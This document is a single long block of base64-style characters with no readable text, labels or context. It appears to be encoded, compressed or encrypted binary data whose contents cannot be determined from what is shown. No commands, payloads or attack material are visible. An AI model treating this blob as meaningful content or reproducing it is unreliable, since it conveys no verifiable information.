I3gWmYLFe0QxVZST4EApRlgHw5kYXzI1qMVPfrI0aTD9QrxkaLAWdiTrOvvr3K8KPfLqU7Fic0531VX/we2J1WPDxq925BiCzhYfBLi4i8anVfniDeJJMeycNdgf12N50EZAXlXTeFUsun9MxL07H5GMTQUtT8Ljh2+gUAb42c+Gadg4C67kEWB3usoHJ3uCOprdoz3oBsurTJ5FnhHVnrLHJZ1VrzT2WCo3TZGdbPbb8DdmS4JDbHaGg6WCA3MvU4UwpsXT1fR10gId7+WftHQFjAIgIWen+tG/zx6eh0IF4210DnFkwNftBUfzOS/6XpaS3W5KZB2n1wIrYgw/RP+WOzhkc/WfnKPK0mAalNzao7sujnECLsAJYbV6oK4TETh93PEJRf+X6cJD5bnDdTP3p2Nzcsd1omZsK+dy4V4+326FmNDiop99OXbrorATH0UrG+GVAqFmfxDH2Wb0GPJSAFJYdxH5apGtwsaOT8nR8h5GUFcIk4PaR5nbc6biKjJlOKzRZeslwqQWRQup0Dtxjkbv05Y0+GNtRW9GiEoKoHCmAgXCLil6IC1vcYDJgNPbk1EmY14pmE/1UwDUeDgPdG95C/7NgEZivbVBhkYjkVEGQsY7h1QRpITk8dVVoj33XREQduhQtyomT/c2ULrnTJtn21UqTYY8vCy+pwCSaM/9PKpRKDVEZgGG25BskwO1jAMKhVcO0xRQBJC0Uzpi704UgDNfHSES6Ydzucz6uetgYKq9OtAodz2cqqV2Nlb2MXxN4b/MjhXLFdzTvPSX2OhB6mXZRkClNiCde1lJLC4priPgO6HvzQesz53omdJzUz+kt6mIRHXryQHL6IfZkqUbeW9usjyc9WEnh4Uqo/K5QaC0Zsl+yajg0ZpiJpq0HgUsgXn6wQjus+gepj59UsFQNou7JyNTnouxuRImX5eDNFsTfn4S9TkoGJMhZDk5ufPmfk+jiopNrjdeynNy/zyINfU+5V5biv44AgZ5DVG1kVNDSsutR3FXDwB8fulgLV0MU3uhsgZNqXvs16TZFJhHtisU+F00ZG3jknS8f58+Q7L9I6sD4t5FpJGusCKWpzZO5XHfy2gfgtoBjLtjMRX4ZUeGLstBAy1s5LViAED6Tpqa7ODycLCGjXzy3wyUiDdzT3YV+1lw4MPtHe7aHx0Pg9NoyJQgNBAirO3IY+PksbsOqyPadfMyO3An6il6ph0DLcYZD1h4tIPD3xxljdVD5j4Wb66hxnAWxUudn2BEJb8s1RgoQJc6j83jOL/ktWKJNu7+2emfZZECBRyTHYkwTJC78GPWn2BDLfmcZ/AqwOmakXWm89T1twUn3otBHXomZUx3qhTVH0pjcLHv+kcpJIQ8Z/gdYKrQun2/lX+qTNp9dTMGI89IEpDzH0QOadQdl//R4rWAh67+og0YOC+uQ5I9f6XuujtmUAP2a90leClhNVH0g+5TCuY3KX2ZokEb8BPloUPY3rlV52EtL+3GVH7tSn7fJ38FINv8LKx7yA2RuvGZ+VbTKr9CD+vgAfh0TQoxSnL5n8rJuSHShylRuClMYmF+8khKVE3WUzvrm/KOEc+3wK48W1JYMCFI03DR3/TGuadr2JECiJV28nUP/y67ty78zpMPxNAKFSMjqtRfwhnyAlF+8LCJGKndzkRMjVosoh9izlCHvTzC0b5WFhwHMjkmzGB1oY6TcxyjDLUP5jjVr947Y6t1ZG/8bCgh7TTdUWx5gvnapKJx7iZ/tjWWWlq3DK75M5m973Mz4hZz4hZFOzAVOtz+pAKVmdXrpjK//TOac2EWZvfDjU1BbcuuweRHoWZCdXFvt7xmYWb+B/fL75omlEcZUEniCJNQNN88ATGExLq7sow2RTVZdQvpjEJeyQF3m3JHRyGF2eFZv1RUUJG5lOnPjm152/y4NH8ebMZrkgbf3CW560p7cRE5MRKKlfxFAjd/z7xKWXxiJprZvZqL7dQmJd+D4hlmvr8mRhIzLXUZ/dfURKMuAWjgOpQsBNE16cvocicQnUEFekRW+z4m3mHR0yi3UsXlkv2rxhpIyu6tDIVO+wjevzvmH19VBtHpRMGy+TLfuIfkxmLOV4cvqke7wmRpLa1mROiv1CCD+amFCWQVp+mlvxlWBoIDzc4gojgpVqPTpVaSH5VqWCTXgTnaus8fK3QdwowcdnxKYaPBuZpPyKVBR2iXKReN/5AF8aahVKv++wqkxHqjRiFfjJ8GgHpkt4xHhTY6zXQj9Yv15mogdVvyBzdR3NcOCAe9VRDME1i4WcSFVK/L817XjmVJ4nkUNXmWkQf+Fz8pGhOgwTzQZH9PDXhDuc38SL8PjoXY+aN9iEBxhxfF2nm03kzGe+53evf+F2tlLL+YdOXV4tk5QeLil2F4bDfzwQP5dvOzLb2KQWuNKXU3wmXpruuNMjHzdZZ8rQga68AXL968hRvTHgCS2whh22popFMONV/N4RHQSzmi0APgOoJNStcCKOtoPPWQ7ZrXkJzcJtXs0vCxmc4XSldJWZLHedZLKIQqNvFA8Uner6HzO9M9fCV5CHyUzvdjOR8+RlKM3x5+Vory7C43begulWconjJHeP2d3TfYsdZklQIOwAZ781uunKXbFQdvS5ddEmlu6AX1YOdQtypncIVYQmV+sjPWs08NMvYSF05OZRQQJOu7KnsZdy4fixUSr0yMhx+OXGt3J4zyw/kPiPFPtcqnATZyvX4CVR89AO25I9Ckw5uAvGZH+96goarobaNFDq47Mebl0H5J7SoZyq07YKEC/wkrOrRNgcGxEQVDs5w7cJISLaq5Q90kWDSDWpqmGzFdP9Z3xtG6Y1de2sd0K8qMoxyaqtYH55AEKtXCnlhnA5OdLYPrkN7qPdHblP3S+iMCvgt14cPReX9dAn5PCVPvyMsFMxaGlGrJg5o7LZoX2mCXupaomeYMhQBPMFHU0apttx7aO1coWMX2BVEzuux52PVwinOh4f476GEXNQ5UUCf5gEyCl7ttaL2JhYOvoZ7KXGLgGB8QVDyBz9GRuYhGrocNd0l649bcbAbbO84u6Q+bgvWLhJRUMFZ2dsGLTMIoHXWuEZ/33y0lECPcMtj/jVddJQAMS6KhKbDgwYdpP6PKOE7/UOgfVJrQCJZg5LUcW1Go+mVZf2+ISMm6nztMHhNIRVQaKQ/SxrCxS72hRfd3+rC1H9xEzEX/9liBbjbxApPbp83rGcGfDx7tstpt+VEfk70vaUXmDH6ifccIDkE5WU7S0Ni3h1VWQL9LpoGyLyof7urvZbIW61ehAZTyfja9q3B0O2185RNm5ET3VW0dPnVqJkkhFaaBUhaSGe4I/GsdkpmZ6oW+Yg5aKC5yqpbE+bDFw7wjX8mdBh3hPPBiOMBh+MS66hFvqMLyTvP9BX/XtiSn2ZqWMpttvjXP9qKQpK3/RYJTHBYIIM1OTeHW9ps4Reqm2zXduwlolzpVNISzMPcmMwj0UqttQ9SzgsmY6KrAclRsMmrWxeyymRQlSYBfSdD+lhQD+M7t+zhBV1k+wDjd6SSI3bX2Q0tlRjamCqlw/QDdlZ8cxRFzOntH0sR9TXt5yV7lXpSpjYyL8DDKWLOHYQe8dCKZr6sDCS+PTDlPaiPAgKq+7zxx5FzonATNxQNBVJ1xIZpYsYimSCu+mebLQsncypDum9K/Vx7nyw1p/5Bb0uDk+Qm6rBS9DhTQq45emzl+8BNI41x7jZxG9JcTt4TTgC02wwfMU4Ml/23S3Ate+3twlmFJj3YDYDTGczOw7SYUxpZCvl/k+2SfiMsNB5aYzw9QfKfvTFj+Unfok/JFm9dNvHR4Fr8hH4dWKHI6NE+CeLNOHL+JqLV/8G/WydhH/bmQxK8vCJl49oHpG3lAlExFGouYZ0BmZlF2He4HEDJOQWshpGnR/i2Wu6DiL9MCW3YJSlsHmbp25UsUrslU1DA7nqw47bP6RrL0jysxP4DA1+UjPpGmgcADaZhIlb6qLfZzUh86vJC0qZiVJjCeUBeQgUn7GSJgEu51MTKca/KeAjBucNYVivuzMKIJ7aiDUTbGXJdt7frcbw9R9t768TQsoALUrp9HY89pmMj++5EqP68OPjQXKbNhB/QZULY90af4/oVouL2S5JFzbcTtShpN4UoX2D7+379aj8Cz6UZk9Ax9qXl2zSYlrOpCYbpww4+KJzeA5G4o0bjEqJC6UPRRnjJkMoEiBvEcrxWu8W2X4u4OlQLjNRJRnhS7fILO9QX1dITaeEVBiBW/xAb1NaTNU9DnlgxKKLqLSA1eRQTDQC52K1IFvlKvx3gxW8ptXDWR0W/hfBgRJ2aXrzDP5GH089hhhyPfcTLUY3F+QfYEq5+AyE6lDwtrdo7MxEjUf4F6glbdGvJmO6v/IyqR6Kg6tk/VAK+La+UXR+WTSlE7OHF2tZH+HdiYl0q4zN5Eo07BGDsbaZR5LJ2veFdEjreN87U2UhR66Ff88iy6UMkoOtc/hG/SELwfrzxG/mOhUwQmM3cyweP/8Slaxrru2Z0NWamZ6Wa6gBEff2E0hGQfPdbfq+J+qxaFOHyuPzGtTrMYaWu4Ol9THLQxcHbowtjCIytZ2co0n9whWwrTwc/n3p6CRj0Lkv18cK8sF92hOCzHSowLiUSM3cn1JyPh4K6/xIs9QZCOzPjWP7CNZk1lRVt9d7ooPxjASu1ZhIbWp2G1V/aqFixhamdYsivz45BsdKbumrOcNCIhKRTzqNF6gC4pSObjGwzz0HTu7bwB+H0J22FjklEDc13axW6PH9GBzq+QAMNgO5PTwf2lC4DukS0iZqYu+wC6l1qWapD9wW2cVMREOr6dQA1ES+HGLTtI2m060MDfF9N1JEHI02RIBgIR+e37ApZOmgMcxhA2BXt+l2X6J10kyRyMKUlTcG5LoS+VwyX8yjH3EnUkoCTnCafNPf8LNuq+X8J04BIs3BpEe7DGzrep4uVrfZf/MLI0ncdNn3jNMEE2KtZLWvQU4V3oAw9WXbyxDUBrLxnFmYbHO1MO9eP052e3D84DDuAltM8jgv5ZEmK/l0bu8yzwLWUaGIug6rn148Yz5iAvX5hH7dizZmglb04H8wzm5PC9f59ilIV1dN3+bF9T8VZHmbEPwdVNr0Zfm47zfwzwsSya4N6rPNoPetwgrFdUwxw9j957Olf9o6RCsbj6A0QMx3OR9XdgDtJ5Q+YbVJr0y4tkTL1yyH/EImBf9Crwk77yQDIrRr75uHVNuBmQurt0rq06pd0t+LSTGu6YI637WYhCs9Zye5jmvx6Fw8lzcA4XbXtczeA/kMX2Sr6hGnqpIwy0mLS8LUB2OWhzYQMn6IpK6AhPxJzh2gQKi2kOsNMjjjlax1WJXWx53yMOQm1qA9T5cbEtTMOy4iP+1cJL2k6KsvP8jawvD4ABM8885nSibu2m/vMo7k36Y8ilOwTwiOpnbKArfWJ0WHTHdMaHMhbR89Ul66bEatWr1jeqWb29FDPFXnhvsqjTrzPYr9hsOQxVVM7tk4FkG8HUqEfDeX+6vke+wa3erqcNrw6VcF4i9/LXktO6eOoAA3+6ONh3sCrIx8IjqHoxGtS0lGOOOBxezkzwNeNLrFU4KsbB3mRir/TiTQtTYIJQldNm59YF3drlROWAhVnYjr9ArmUQX+kqz/CDgw3yixdiBWJ97L/u8XcXRP6irAgxjlGT90pRH6Dgthpqc0QBzVP16FtTURD2twvnaoU+dePUEtS3ntk1htTeL+kO/gTpbwmaNXFSilBO/SbjBLyPrh3+S0nGmKPFAMTOQNaeCvlrCaC/aeMYIRrNl+cnNcBwpFNKvHBfvyU5hJAB22Prk2M7P7OwJd2hdcHFFlQETsD8GBn1i1fZ5uyMaeGGIUMUvYmzsJfh+JYFqr+KVDdEtDdmQv4JCbGOGhi4BPz8yua143rGFnviIf+WDi82Epd/RhVY9js+VQkRjFh6rudksK9nUEYSquHx2eze8Xa9/+jCdb3N6XBkmzXfDlP802ZDdYnXdVR7Q+mQ/Vc4Xymbx0NyTSm9HYsyisPnntNrL+WV6inw+LlZJ11y2cqHUh7SP2Risq8OpgvEMOMVRcGDwcJKMShMT7qsPkdwbBDvUTlawLUz808WYr0KmzzxW85cKEQ+ekEzcg1tdrmpkGuS+Xx2Y9tx6q+mK9NTR+1GueuMovtLZi+Ltvl2+n2bFnIuIUhzejEKLF9Cb2Cme/KgMSPn1dLUrTRs8C7am5vsbUhmqRRbDZaZd54Ys+EwV7GfAZmns4Y0QpuRNj0XuLIpCyUThIh6BlzN3zSCsuBKLpLo83tqECfvZ/vk1+6sE/uwX2AlOflCluGFJYYlva0lssse6y5hlznJHLqJWUadhJWy7e79li0R1WQniIV1kqtffd2OhzwyL3sJq/ZYPQnlygbRkZrAGpPEl8CvlTGiVaMv1f59datzrb+Djy28oAUC5Jr5rs2fT6lqLNjrMY5xWyygSPUMGAbeT7VItdqFPbnCztpxHbg9335HKYRjXlinzh3mjT/z0yUwR4vVIK4Cy5M7Sjsec54ikGjgbwCARl9d7HQ6ISmjbJyH4jg9Rp/AeHncKmhkF4GW9AEfrGSNe+qzu1cw2AMfiqfoBXzql23RXmeo5+gZJd1jn4+J4u99XriZKJo4+hU7THb0zHaFkMnjsrAVN8XS2wBqnI0K5bbnSD18BmgD+07NIJ5hQSH7hO4WGl3DjcgWkoR10Z96hU5FuzOfgCynq9MVxpvUWSeT+N3nmQwWNocKRXHw/0z22jM5fTajDESxRzKcEhSrLwrjGWfktaRmQPzhgW+PuaMA7LVw1X/K1wniCxtpUXwL0ocmtB8dhqBGHEgfb7qfV8dpHzZrFMsN9DSYL2WTX5Sxksd+3OOd2IN5y/eeI7CGxztAN3k00sTl/5cE386kmJyxjbMyR7xpC9ddjOc/jGIuAz46dyiuKjsbpdFmMi91/wyqOhg+4fwILq/Io0a7b3KtIdfvbxGA3tlcsfu2hq2DXBRLwLY6Wm3N4sYDu1g0ea4WGeHXl9lbTW+VurXLSRbhEq/JM+2vxD6b12L4TU7u4O/fCDFPRT2BWNoRajr1+SYRUM313Al/AL9KRUhjqYt6tXQI/w4VYgEVmnyCCO31FgBYyWzjcSJKDUBL/VWgdGDHtaN5MRiYR0bZyGAGd8vA2TqqOeaWK4AramyNQZuBpUPqZqqwXS8jEjGR43/D4ztDGvu7hs4wMicDwEZ9gcqDexLPoSNFgvo+oxz0KJ/cNbuTwzQIVN/0WwN0DuVEQD44wicQL0GOBsC8BIfpCVmxN3YS9W6dcvSVFsEd+5yAeZAsRWJutTP3Y7yRD67veFrfaRUKSbwNqTG6gcdiLn0aAvL97RrNMWyh0ghpDOklI2h2ni2OgL91xDpgclDd5VHtbNCKLsSa2KWPPD8bnUD/uOqEWwHR2Xtxz42LwSROY13p0rpSv6vSHhlYV7qWemrmt6vriU1VVi6D8dZsHtYg6WVo5fvDPANGZIr+DiyrEfWbx0e8jZYBT/nDGX86DVHuaTmlTRTpZdvkaeP7pc1GxCqCmilr8uH5JvmaVxD7tJ8R+qzIQ3lMgSndNkK7yh7oWTJoAfc2WsABmjxtfFQUNBnjqh+HGoLPz4HbxXHF9RBICOAvwT1vvmZFmgTjDO8tCteIuiJuauF56MEUErPUE5RoKeOprUxsE5gUr++LYLxUTeihDRbjtdlRGvz3rV+iwRlHqXDDYY3SF0g+M3btWFIMyvMfrW/tX0koBI7kriD3BZ/Ir606NKmsnjVb6kdcoPAwSGU+nhPRykCMswMtxrqIBTqy1rC52uz4O+4W80OysYIcPC/eH24ivU3DGvVSH0p6ixVCzDSQ4GXc25zBvmPwG0vZ9LSc0xZDry4JMOo5ISy76BwgOn8QtzGqvlFdrP5Z3/IHczIfLBMEL1B8gA2Wsm7jVrhTNdf95gApyquoRCW+uDM225Rm1c7TFdn5tofTjJgNupDnYieP6VOKdYljh9ZLa6kXhrVhqnfai4AcOsqe9a5jwMdyQbVHAxtK/paDbkOqMq9dyoYyU7Myg0X4dgdHtmyWwjzdJ5oTKDOSZm4U6vfnJ+hzFWzLjc+RBMkm9aDCowycrjCqWG9oxYEOJsoARHx1JtAtYJD9OAH0PTb9EYWxjsfS6josEC46QBAnik3Xoq4V7PvSb3jCNzY9aghfae2GWevQm6dfvx2xvumsVHxQhGlZN0Sz2/PworADq2xeCWVzkzoZccEEwsyrC+YQTQH9DhOlXMNNUtcfEYqRULmLwiMEwGnCcFLLTZL3T/pUBHF4XhPc634SHr1ymRe/caTAHF9i8vPse/D93+7bUUh1e7QFEBGKShVJ+FBmfoIKkRqIWpLHJ2cYIN7xJd6wgNC2Yvyx5WLhp8+HVL68XGGc/T71eMfwj1OHKv0SUZt5qEildQpe3WLYjVFWIwyNcl4oj5M/qsWXUmFqIvcF1Q5cq5bmyzF46S5jzxVAKAbrVCPIw+qT15Tw9FRerKDGjnyzqj5Jhk5ajw1vRoindZVHbDLJIdSrxGizCXRv66GVL0olXZ1qOaPfd+QNAUnxiI5UqjSDCkZ/1IShWZ9hrwHwkh7eYNoKNnHR7nuvYu39adglBqXqYNNIcydDWRpcSkmcqXu48zCmiPyUaJ88GAYOpdrQ4LMXJ+nQnLR265mRZ7ps4SEO+P3WEwtznk/q8eBVJ0fmJuTijCrlAqQJtJBIVLrOMwbPqy0jIabcwtC+BozVF/jAV70GWYZUZpadFKYci+LEsDYFwTbNo6bVOebXMlS7h7YtWRIm/+5WQsSlOJoz7Adkb9Gu7aVXu0c3rfiQBI6JtPMs+26e/1Hp1UX2eN9RoeaCg69pYJ8pmgpamlW2XANOrmjNby+7SOoTavnIZg12RL3QndGDO2RPK065l3N5f94h9dfqojhicSxRGdHxcXsN90kyk3WlNTwLZ8UJ3EjdAH536UWBcGhytUNB8IBAAgGrTqtuHCkT6hm8JUu9YmuhVht+BjWZOeBAunY2HJbZ9g6NATAAMNwzYtLC3gjYm0JZRNYVz5kte4+PkRgyrMuGy0UiH0lWIPQ+kXqybtU4qt/cMHAXyiOX1ysbs3E2PM1mYK+b122fRPYPD8lgcmzd+6DoOr2e5eBsq1UYZhq0V8g0XoiZ+8aajkghrExR79jJS+meFJR5ghtArvJzbcZRGL1zmGZxZ+3Qscuni8vgKAqm/N80kldqUGt/8UY24/lebHGuj/MdbMOg4tYY8ujbfpyLUXL/N3gLjzfo8lx3M798ZE1Gw0eAt2xBRfKCW5GwQtilwQbW0flkMCb5U4J+NJZAAKtODG5hKxb4yBDsnhjhk2joHlYyut5gqjAB0K5lQzUF7aTSOVNNtVxDMrfsgAx/l7juyB/UUJCcM9i7cufog2BnhumiYwOw4f5pJhNFF8S562LBijfMXomk9SWbR6zO+z0sfbwnG5VEA87X3Ic2YmvMbknfBBzmS3DIerErVCg6D8ODJjwwwyAi/tMPbWxZQEiMrdJbbcD5dYytDFlfgckBJLtnHa+56NQd1y9NeER7EPSDeInIli8XqtJmSe0WV5kl692TSkxOwehGp3sakQY46nSmxapHrzDHHmsmABfkXPi30q8rS/eEEHLsIxcK0U6SwLPZKiOxOQTkXtF3jFgGWeP6liYKjEec6DCINKJIcxGYnFtMx82VrmDzN5A2yMWquKfiQkHGzYxPaGNcG1njTpm5bHu4tJ15imCezP6sQ6O6InP+zG0hjA8KFgH5mRa0Ugj8mNp13XMkmgYSP+YZId8PpIFHlZVineMPSznRrJ6XzXsZAG/FuVykaQGxkBOmfrvAI2CSDGidjDNnzlso9hRVC/X85zVO0uKXdfC3hpFvyfWpQx1fwCrysjJssiLZTWysHWn3o2KDt/gtg709yXDpljc73nHxCXcsRpiMEtUBUFIBCgdh7VwxOWBdT8eWAceBEbDqRqpN8pIirdgkyeNbhrkucPkMxPt25iW3wmqs8op3yJ5m//Xs2CVfHy0fIa4Z0VBxZiaJTYzXut62KmHRCDzkRrAke2mUuLhT3TkHPG4vQXFSe/AbZBKhA/ydStCE2N7GolZqrkbw3RJZjUH7xLbB1IBUTUCib9EwzqYFuNqcP1THBHSvLpwFYc5TZ08WdxcIXCrSXMCgMUisILEwBjZf6IsCqLAIUlsxLRHXsTnWnAaUcWnz98r9sVYS+88Q0e4ZXjqAlzGeNEFl3oc28MjdlolPYa7CBZRcEq9dpf/0hSY3KTNpLumqwPiJ9JsJskq++wqcKqxPMrH0Xf8MsSjrC1TWlZ5elZ83gdaXz1PECbzns3BVYmSS2nQhH6P5ynxCPBmd3/UyMIpF02L0l4+mVYr7V2fLZwdTxpFvQpAfzFZPAfSjXOLXSZvBqU4VRHGAeuXX8d6rWodm+lLo3YONhoXDEJQ0VvHAWj+dKUCaNfh/hV9GTehA1CqO5mJMCkPgdWp3/JHiEC7ruOZpruAw+93d2d3HZZf5CMl147qg/9Pyjjq/lCtnlYxPDUwdYXmzyrhFiJoPAyGtvKMj2DBg2QDD15hd1n+KbelpSj89NSWldKXrP7sZbw9sFwjw6KRPm7IwLJrKyYC04KwRxr1/+gIOI41P/3wk+Nhb4BVtAQUrs/XDYaljtQS5h6aUNR4qeYBMX9x2jkjeLuxT2Llj8FAzuQD4s/LzYzi9zSOrH2UVScm8R+oDd4hhio78ac+xJuCjd4YV9Ibxqb8IFmbSSZO5vKWq3WktE8YbbUbBLzp5LEOHDOPuMhbvXP+xOXUl2hvk4xrCQGeRTwqgNatdeD0mf7QB2rz6dNYk6M79Jaw/t3jL+9cFB7Kosr+1cRi9wmF8KzAH9s6wOENAuA9pEGAkWojBa3vnA+mnl4mhw2FGuNd0Nq/dhWsd+5IXId+f3RB60OVtTh2VaqZYg7WCmD0MAosO8yV1NzlOAbmxaQpP9YiNolxH+Jb83wmOEPkO2VWN3CqOEYk4B/3Xo3AMGsz2ZdC6iApAXUdrGz+nLUCjVH2KezA9RLJV+AoI7+nMuJYoORbjEzKYKmuT+YR10Hl1jZXBKw9Vstnq6KMXpTnO637E1x/I0RhG9opl3VzvWNa680vS69hI25lDIyUNhn8yNyYjlXfkQR40p9ra0WReoukuiW3oB4HEyqnIdK1LhrQ9TmTmRbreLGGnm278vUvryCZpg46EMNmQI9IHsgFLbXVVVrKGdgpiWcYhBUGN86lMu7xoN3O0BKCbi3LT6+H0cJ+BAL+vvEsvHQDQlYgU9BJmjAkuOFY/qCDrelRIBW72S9Z/+z7OVOACUHou32x2G9vp+JlxEpmXF1qGbwB7RJoD2efN1+Dyuwjkv87dKWSsA26K27PIHHbehFY1e4jkXZWwFQ+nXdvqXusYg7O4eGy0K0ivzrOEwkA8SUXbbEficNZOkVVXSwYFhTa6nhU2HLyMY1YRVlmlAr5dK6uO2P6hFrQ+HXYgPxx9hDUDDkTsWZPlZpPJjexihSQu2aanFlAOA+j/2kXeZQ1Q3lLTGUcnHH3IhduIobQfyO4dd7uRRHbmya8V/+TspO6o5ygN4iPmIBLbmqNmjNJGPaiHuKcAWY7FekKvG5jb0tlrDFHE84ez3osB82rViiOPR1MWkEzPdk0DZD9OF8vih7TmzezbPbjgtsKB/YoofDqgtM8wArO+8PGlpJILti9E8boDts2Qdbchtin5ygvsErx9VSoRBhM0EFk0fzORsGZcJIvq/MDx7emxgHiqqS5+E4yPeA0y2XO18oKrEJSa6J2gAR+IkrUZBigjRohbYRuqXnS1g4GazTYDGdEbHkX5KCTiO5LlQsXOJ1KaiOl0SrG19xySKz865SRdzxBY1kG51OpG8JM6XQQFEfm0HX8/PaiwN65e+ZupGukW0JGVfdybkwZkyKsSDxzQzLYgYjmMqD7ufoIsPQLsO297DEgMj8OoCdTPIRT1/Nps9AAGgUr0tSfl3725rZzu1FwdXiuliVy8IGPv29sylJhW4vc2vT9kDQrkgWycT0jooVoa4K1q9CjBjLDOeU+FB1OQy6lhNUJ7AGYpZ2V8rxuPkaWnKt+PvReIhkpSx5fSJvMARE9hPkndfW//JXAKND5CodQK3MoCz/pVpojThUDGE2WTKhqzZTN4+HqjjXojvD8dQG/TI+5FeSxd2Zm2btNs2PVIRcKGjVzpUY+UZyaLeEzqGQYW2hzayUUtnM4fwKdC3mW/kJGurjaP2m0JCA02HX+h6uyDQSDFGyA5PymWt3hDExoYBIwaU7+93oluXABks1wn9dE+NObYUlfcfo1ViSFEM6p5Hlb+y3/DxnqyIcmtHDF494W9P536+R14rtXA7o0yL/0DvnEqp/7ZeNdUAfdaO7dFn6pWTxOXA4dgz+Rc0wNtmwvRoy7HEwDvEqy5yQYSLbJ0TgoEr22ktCqE4PhMEDS51iUSxgs6CWj9pHdbGwcvUqis5WL9yDM3yMd/0EmQ0YyVnRa8n1OV6+VRtW1uOf7Z4Hsoubp8tA9N6HNfVxOti0vRw3NexjVeBKMW6qNjAliz2Njp506ofPuqVI/s2YG6rndFOZsVrqO1mSztHLed4e+5Mk0TZADiEO5RB8JD4BzxBEnOv9+8FdFFFLsAxvRuXnhBeeaKc1S3heh+7J95K/Xb2AknUj7M8iV82nKJXKqWVLPiNJ2e7YC0zwFuin8W5UK7Pozge/TVyeumOAZmqzjlNqJfSQqq0kfURd6cbaWH77dRT9mdJftZZSYMjoLsoO4ycIhObGD58k2SzY/30IZ7YP8jGykViR8iGCBl3ZB4ehxuQLB7MoOAE2sLQpu1OS+06kdgQZT/6N+h2HVNy6q4nj97jUcdmEL+uLTBGTjYt/UpYfqXWfBYpKLd22I4EjZ75ykVYFiFd2K9Vho2eOpnkmfOoj9XkzuEeprYx93jrZBmfzkBZHnZxUMVEzUTPuhr4cWqD09D72Gk2iDAY7QwHPZx2p1wtMXxDWhjQel1OsDNqL2OFw8RJp/ZvZeBiDqBFNfN6sp7O2A3o7wuVD3tKcc8rNMacRoxoQC90kkS1wVvNUFNiwOVQb2uPBQp1TKEJaFTbpKHy7hatUFQfyPKX7RkzXw5/YFyRldaQQsQuH/GmdYSe4SpEK8O234SMHwyrwFrMYzXdgf4tq8eBB4qX0bdX8sjVfDc0kKLCe6/e6v3P4a3GHOM+Csss28GL2UPyA2Z8UeU6oSeUqNyrA6bGs31ILT7iwDjbUgnXNQnMV7fK6zQE4GTn3S2DLKmClbySrW47i+Axkun1Z0WheymRFkb1VUEYkmpuvs6LFwAf8LK5fc8aukWla3ckff9BnzIpGKQy/p/etdAULnns+q30zvor8hXuT6ad1wKHNJ5OyrBAQXAsBeGoeaBpesfZMkE7mFV8VcTl8iBLPt3XhYxONc95bvLzQzqNbdNox+UbwjeFwoQFL0oKwqdwU6l7P+y1b/bRJ2RYqwVfExr0EoXZWzoNgU2p/EplFWmHj8JbWU6JcAkAn/ldCALxwh/iluEo6A0J+IQZ3kC1da3etYf2JKjaRk+X3tKtqKMrY8oUCYq6BINpIb9D2ZvOpVWZej+3BRbyIxEoB6pTAZuTIYPaz8mgZi5cFPx71wiDqS8mUQdqn7yP8s0xwP1/uvZrZmK4VIfegOSvmyihwz2qEGqgWd1WTBCWa8G6a8fUmGLmtdW3BV4i0QqYT1pElVr0ie6zlCPldevxjYKaB5K0XWDCvtPnu3ArkPNcpY+NzQPaMIOE4bKidrMuuM6ztmfI+5Oa9dZfYRG8ey+6WCVl6mb32h5ZdfrQ+1LFSnmSaK+57cHzRaQ8jgs6hVnyT+nUqcfItp+Jhn8XOp/+YcMDI82rbTRiqMAxyWqLheIU0JY+RD8/JqNLL+DeSPn+0D1ET5PM5r840nVuPGIj0q3mDWXCcjTfugZivvUPCBxxSdw3WKZl2qleP0tD6ZXf9r8ZbyFFiRhu3t1oQ+2RI0AYqietD3sesJpqTQ1Kqx4OPzqn+sReq3vLfkJfQtqUmFy+/X6k0I+4AZ7zrziEusa2FylChfFGS6ih1yLwNqflf6gmM6sy6vOs5YoNIBk9ZYvmMOP/bWdhOpeMDUqCR3wp8W395f2KovpSm0GadniNot2tMoZTrOks9bx+eYV7MGCSy7Qv2HNIN+rfVsHZXpmLcBZkiRsjMWt07Fp/2PKIblOMyVPzn69S5RDFpj8pYTKSEvV0Egrja4bZVKdGkpw2h4T0wHRdvF0iIPt5RmuthW97Yf3Tv4D4p1+A+HzquBwEb8m7SoGmGfem3Cjga/JEsT3gp/rkxk16P+E6h2GzHtBQx/PcvZtV6TsDQCN/WuY/y6Deog2KRsXbe631iv21m3++jrHaNESZqWwtI+hQlOOBsEdS/+xGVvJDQgd/1vMBbb+2VWklOKnz+OTgyewyOZojIgdWnkU0wnYGix1OqOiaenj2VOdF+zMR31weZa5rE6m9QP91YOqdSzoKNHkrv4mynVUQ/8nImGbWBm79p7Aqy47qbpyjUOmDHxD4p+Prndymdg+dxwNCfBUBVZHokHMegzhSafuAoNl4c05LCkSO33bfs6lXCPYGyu95Y1L4pYzQ9cTTpyORgIxsAEez/jANPSxOpLPpacI2mpy2oXc7MgTg4QKAkCDHghvhkrnbbxBVECbcUjNr7/69wxX8JRFHPn7p97kx2Wp4QYBc1Nfvuj5ToxtzxLTLBBjFLHCny0y2tSJYjd6IlJNPW2IIUTyJNHbSAWin3epOg++plSOy8c9470wD0K1x77OlgNsma0x+AwDTGetQytLjNcXq9VXjSqjI3Kzj2AIy6k4Rmg+R1iPCf/+nRPECyDF9sd7Evq/RKojWWvBhJLnLfsitLYKigGNJaguopnvdcwXvZdLdsPY5cdkcnhEhS0LspYNA0dd0/isA5WWb3JxQ7WgfhWxNu/6tdbYOvnYi6ko/lGpfnoGHmv/fZlZ3qyUuyB8GIxMloeMLiWQ2/nvC5d0lIw7exIx9AaqoRDQ9EQIpgHzGkHNYonlxs2zSt7ppHudAg8anV6xZSyPIoL9Lmvbpr6/Lo6LpXWV6sVQfs/YE05uHkKQN175WwJVW+4h3klytaddz/fWkwycmUBIxoeweQIqKrk/74dAj7CbUStwUhvh86ZXRUXlKccrfLj4Dr4mtd2pUoJqzpkPDAgIxXUjEPCE2quNFCyipPzBXO9HcUTaa5wazpUn+L49cmw6ggxUk94dGzZBiJogT/24hV7/+zwAUFSTn0/F44uSys+7/c5HMNqMwYdDmxKSfs7u2mwPpBuG3l0E2Oea/C8OeV5+wB9OkH1JTnpxErdAmnBp0jszV9NJvHSd7NP3zK2wP+LgkqLlANgyUF6qM3yBWbg3npCjYu2J4BnDJ1kX/sgU89nfobsMyvhqcfqYXkfdfID1CuJzXeI3NkVgAYrbXrNOY+vfPDOPGxzfEmHKmP42cFZoc8BW29GLjeiKpbsD9iRd2bUMGbXnaV+UoFcq5o3KBP+0Fg3MRkfXjW8cb3cz66e0nZ1I2s5yr6rbGPuOzLonggbSikpnsGL1wOl6/W5iYhWBk3x8z7I6llGJhD+tL3/pyLv+9W5Enfw4Nj5/co+h8WDGwxSlE+ju/qbeb4uHtGSEEN2nSECeDVwCZZHR7+ezNDshtbRDxJij31CDjTPs4PFh/BMkPL5uq6JuSlqok92hStknGMasSN0OmIDqfx0spS9gerx4p65C